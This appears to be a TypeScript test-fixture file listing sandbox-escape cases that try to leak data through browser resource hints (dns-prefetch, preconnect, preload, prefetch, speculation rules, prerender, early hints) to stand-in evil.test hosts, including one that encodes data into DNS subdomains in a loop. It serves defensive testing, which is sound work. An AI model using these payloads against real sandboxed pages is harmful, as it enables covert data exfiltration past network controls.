import type { EscapeCase } from './escape-case.ts'

const category = 'resource-hint'

export const resourceHintCases: readonly EscapeCase[] = [
  {
    id: 'HINT-01',
    category,
    attack: 'link rel=dns-prefetch',
    page: '<link rel="dns-prefetch" href="https://secret.hint-01.evil.test/">',
  },
  {
    id: 'HINT-03',
    category,
    attack: 'dns-prefetch in a loop, words in the names',
    page: `<script>for (let part = 0; part < 50; part++) {
      const link = document.createElement('link')
      Object.assign(link, { rel: 'dns-prefetch', href: 'https://s' + part + '-mfzwizltoq.hint-03.evil.test/' })
      document.head.append(link) }</script>`,
  },
  {
    id: 'HINT-05',
    category,
    attack: 'preconnect, link and header',
    page: {
      headers: { link: '<https://hint-05.evil.test/x>; rel=preconnect' },
      body: '<link rel="preconnect" href="https://hint-05.evil.test/x">',
    },
    inert: 'Electron tells the program of a preconnect and makes none',
  },
  {
    id: 'HINT-07',
    category,
    attack: 'preload and prefetch, links and headers',
    alone: true,
    page: {
      headers: { link: '<https://hint-07.evil.test/x3>; rel=preload; as=image' },
      body: `<link rel="preload" as="image" href="https://hint-07.evil.test/x1">
        <link rel="prefetch" href="https://hint-07.evil.test/x2">`,
    },
  },
  {
    id: 'HINT-09',
    category,
    attack: 'speculation rules, prefetch and prerender',
    alone: true,
    page: `<script type="speculationrules">${JSON.stringify({
      prefetch: [{ source: 'list', urls: ['https://hint-09.evil.test/x1'] }],
      prerender: [{ source: 'list', urls: ['https://hint-09.evil.test/x2', '/atk/hint-09/next'] }],
    })}</script>`,
    parts: { next: { body: '<img src="https://hint-09.evil.test/x3">' } },
  },
  {
    id: 'HINT-11',
    category,
    attack: 'link rel=prerender',
    page: '<link rel="prerender" href="https://hint-11.evil.test/x">',
    inert: 'Chromium reads it no more',
  },
  {
    id: 'X-EARLY',
    category,
    attack: 'preload in early hints (103)',
    alone: true,
    page: { earlyHints: '<https://x-early.evil.test/x>; rel=preload; as=image', body: '<p>A page' },
  },
]
